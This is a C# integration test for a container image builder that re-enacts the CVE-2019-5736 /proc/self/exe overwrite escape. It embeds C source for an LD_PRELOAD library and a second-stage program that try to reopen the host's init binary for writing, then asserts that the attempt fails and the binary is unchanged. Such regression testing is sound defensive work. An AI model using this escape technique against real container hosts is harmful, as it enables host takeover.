using System.Diagnostics;
using System.Security.Cryptography;
using ImageBuilder.TestSupport;

namespace ImageBuilder.IntegrationTests.SandboxEscapes;

/// <summary>
/// The CVE-2019-5736 class, tried for real: the step's PID 1 is ibuild-init from the host's disk
/// until it execs the command, so <c>RUN ["/proc/self/exe"]</c> runs that binary again inside the
/// container — with the image's dynamic loader and the step's LD_PRELOAD. The preloaded library
/// keeps an O_PATH descriptor of /proc/self/exe across an execve into a second program, which
/// reopens it for writing. Had that worked, the next build would have run the attacker's init.
/// The host's ibuild-init must come out byte for byte the same.
/// The reopen must fail with EROFS, which proves the read-only bind: while any other step runs the
/// same binary the kernel refuses the write with ETXTBSY before it looks at the mount, so the test
/// runs alone (<see cref="AloneCollection"/>).
/// </summary>
[Collection(AloneCollection.Name)]
public sealed class InitBinaryOverwriteEscapeTests : IDisposable
{
    private const string Preload = """
        #define _GNU_SOURCE
        #include <fcntl.h>
        #include <stdio.h>
        #include <unistd.h>
        __attribute__((constructor)) static void grab(void) {
            int fd = open("/proc/self/exe", O_PATH);
            dup2(fd, 100);
            char *argv[] = {"/stage2", NULL}, *envp[] = {NULL};
            execve("/stage2", argv, envp);
            perror("execve");
            _exit(3);
        }
        """;

    private const string Stage2 = """
        #include <fcntl.h>
        #include <stdio.h>
        #include <string.h>
        #include <unistd.h>
        int main(void) {
            int w = open("/proc/self/fd/100", O_WRONLY | O_APPEND);
            if (w < 0) { perror("reopen for writing"); return 1; }
            ssize_t n = write(w, "X", 1);
            printf("INIT-OPENED-%s %zd\n", "FOR-WRITING", n);
            return 0;
        }
        """;

    private readonly BuildFixture fixture = new();

    public void Dispose() => fixture.Dispose();

    private static string Init => Path.Combine(AppContext.BaseDirectory, "ibuild-init");

    [RootFact]
    public async Task Proc_self_exe_of_the_init_cannot_be_reopened_for_writing()
    {
        await MakeAttackRootAsync();
        var before = SHA256.HashData(File.ReadAllBytes(Init));

        var build = await fixture.BuildAsync("FROM scratch\nCOPY rootfs/ /\nENV LD_PRELOAD=/evil.so\nRUN [\"/proc/self/exe\"]\n", "-t", "evil:1");

        Assert.NotEqual(0, build.ExitCode);
        Assert.DoesNotContain("INIT-OPENED-FOR-WRITING", build.Stdout + build.Stderr);
        Assert.True((build.Stdout + build.Stderr).Contains("Read-only file system", StringComparison.Ordinal), build.Stdout + build.Stderr);
        Assert.Equal(before, SHA256.HashData(File.ReadAllBytes(Init)));

        // The same through ibuild run of an image that carries the library.
        (await fixture.BuildAsync("FROM scratch\nCOPY rootfs/ /\n", "-t", "evil:2")).Ok();
        var run = await Tools.Ibuild("--root", fixture.Store, "run", "-e", "LD_PRELOAD=/evil.so", "evil:2", "/proc/self/exe");
        Assert.NotEqual(0, run.ExitCode);
        Assert.DoesNotContain("INIT-OPENED-FOR-WRITING", run.Stdout + run.Stderr);
        Assert.Equal(before, SHA256.HashData(File.ReadAllBytes(Init)));
        fixture.AssertNothingLeft();
    }

    /// <summary>A root with the init's own libraries and loader (from ldd), the preload library and the second stage.</summary>
    private async Task MakeAttackRootAsync()
    {
        var root = Directory.CreateDirectory(Path.Combine(fixture.Context, "rootfs")).FullName;
        var ldd = (await Tools.Run("ldd", Init)).Ok().Stdout;
        foreach (var library in ldd.Split('\n').SelectMany(l => l.Split([' ', '\t'], StringSplitOptions.RemoveEmptyEntries)).Where(w => w.StartsWith('/')))
        {
            var target = Path.Combine(root, library.TrimStart('/'));
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            File.Copy(library, target, overwrite: true);
        }

        fixture.Write("evil.c", Preload);
        fixture.Write("stage2.c", Stage2);
        await CompileAsync("-shared", "-fPIC", "-o", Path.Combine(root, "evil.so"), Path.Combine(fixture.Context, "evil.c"));
        await CompileAsync("-static", "-o", Path.Combine(root, "stage2"), Path.Combine(fixture.Context, "stage2.c"));
    }

    private static async Task CompileAsync(params string[] args)
    {
        using var gcc = Process.Start("gcc", args)!;
        await gcc.WaitForExitAsync();
        Assert.Equal(0, gcc.ExitCode);
    }
}
